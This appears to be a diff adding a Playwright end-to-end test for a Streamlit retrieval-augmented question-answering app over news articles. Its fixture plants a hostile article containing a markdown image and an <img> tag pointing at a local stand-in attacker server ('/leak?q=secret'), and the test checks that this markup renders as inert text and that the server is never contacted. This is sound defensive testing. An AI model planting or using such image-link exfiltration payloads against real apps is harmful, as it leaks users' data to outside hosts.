@@ -1,0 +1,114 @@
+"""End to end in a real headless Chromium: the app as a reader meets it, on 127.0.0.1.
+
+`make test` installs Debian's chromium when it is missing; Playwright drives it (its own browser
+download is never used). The test skips, saying why, only when no Chromium can be had.
+"""
+
+import os
+import shutil
+import subprocess
+import sys
+import threading
+import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from conftest import ROOT, SEEDS, free_port, wait_for_http
+
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
+                 "--disable-component-update", "--disable-sync", "--no-first-run"]
+SCREENSHOTS = ROOT / "build" / "browser"
+
+pytestmark = pytest.mark.skipif(not CHROMIUM, reason="no Chromium: `make test` installs Debian's chromium; "
+                                                     "apt-get could not here")
+
+
+class _Attacker(BaseHTTPRequestHandler):
+    """Stands in for a tracking server an article points at: it must never hear from the browser."""
+    hits: list[str] = []
+
+    def do_GET(self):
+        _Attacker.hits.append(self.path)
+        self.send_response(200)
+        self.end_headers()
+
+    def log_message(self, *args):
+        pass
+
+
+@pytest.fixture
+def attacker():
+    server = ThreadingHTTPServer(("127.0.0.1", free_port()), _Attacker)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    _Attacker.hits.clear()
+    yield server.server_address[1]
+    server.shutdown()
+
+
+@pytest.fixture
+def app_url(tmp_path, attacker):
+    corpus = tmp_path / "corpus"
+    shutil.copytree(SEEDS, corpus)
+    (corpus / "venue.txt").write_text(
+        "Summit venue report\n\nHungarian officials inspected the Budapest summit venue on Monday and found it "
+        f"ready. ![pixel](http://127.0.0.1:{attacker}/leak?q=secret) "
+        f'<img src="http://127.0.0.1:{attacker}/img"> :red[ALERT] '
+        "Officials said the venue inspection was completed before the cancellation was announced.\n")
+    port = free_port()
+    env = {**os.environ, "RAG_DATA_DIR": str(tmp_path / "data"), "RAG_CORPUS_DIR": str(corpus),
+           "HF_HUB_OFFLINE": "1"}
+    log = (tmp_path / "streamlit.log").open("w")
+    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", str(ROOT / "app.py"),
+                             "--server.address", "127.0.0.1", "--server.port", str(port),
+                             "--server.headless", "true", "--browser.gatherUsageStats", "false"],
+                            env=env, stdout=log, stderr=subprocess.STDOUT, cwd=ROOT)
+    try:
+        wait_for_http(f"http://127.0.0.1:{port}/_stcore/health", timeout=60)
+        yield f"http://127.0.0.1:{port}"
+    finally:
+        proc.terminate()
+        proc.wait(timeout=20)
+
+
+def test_reader_asks_checks_a_citation_and_nothing_hostile_loads(app_url, attacker):
+    from playwright.sync_api import expect, sync_playwright
+
+    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        page = browser.new_page(viewport={"width": 1280, "height": 1400})
+        started = time.perf_counter()
+        page.goto(app_url)
+        chat = page.get_by_placeholder("Ask about the articles", exact=False)
+        chat.wait_for(timeout=180_000)  # a first start: the corpus is indexed while the page shows progress
+        first_start = time.perf_counter() - started
+
+        started = time.perf_counter()
+        chat.fill("Why was the Budapest summit cancelled?")
+        chat.press("Enter")
+        marker = page.locator('a[href="#source-1-1"]:not([aria-label])')
+        marker.wait_for(timeout=60_000)
+        answered = time.perf_counter() - started
+        assert "[1]" in marker.inner_text()
+        expect(page.get_by_text("Lavrov", exact=False).first).to_be_visible()
+        assert page.locator("h3").filter(has_text="[1]").count() >= 1  # the source entry under the answer
+        marker.click()
+        page.wait_for_function("() => location.hash === '#source-1-1'", timeout=10_000)
+        expect(page.locator("#source-1-1")).to_be_in_viewport()
+        page.screenshot(path=str(SCREENSHOTS / "budapest.png"), full_page=True)
+
+        chat.fill("Did Hungarian officials inspect the Budapest summit venue?")
+        chat.press("Enter")
+        page.locator('a[href="#source-3-1"]:not([aria-label])').wait_for(timeout=60_000)
+        page.wait_for_timeout(1500)  # give any injected image time to be requested
+        body, text = page.content(), page.inner_text("body").replace("\u2060", "")  # joiners keep URLs unlinked
+        page.screenshot(path=str(SCREENSHOTS / "hostile.png"), full_page=True)
+        browser.close()
+    assert f"![pixel](http://127.0.0.1:{attacker}/leak?q=secret)" in text, "the hostile markup is shown as text"
+    assert ":red[ALERT]" in text and "<img src=" in text
+    assert f'src="http://127.0.0.1:{attacker}' not in body and f'href="http://127.0.0.1:{attacker}' not in body
+    assert _Attacker.hits == [], "an article's image or link made the browser call out"
+    print(f"\nbrowser: first start (index + model) {first_start:.1f} s, answer {answered:.1f} s")
+    Path(SCREENSHOTS / "timings.txt").write_text(f"first_start_s={first_start:.1f}\nanswer_s={answered:.1f}\n")
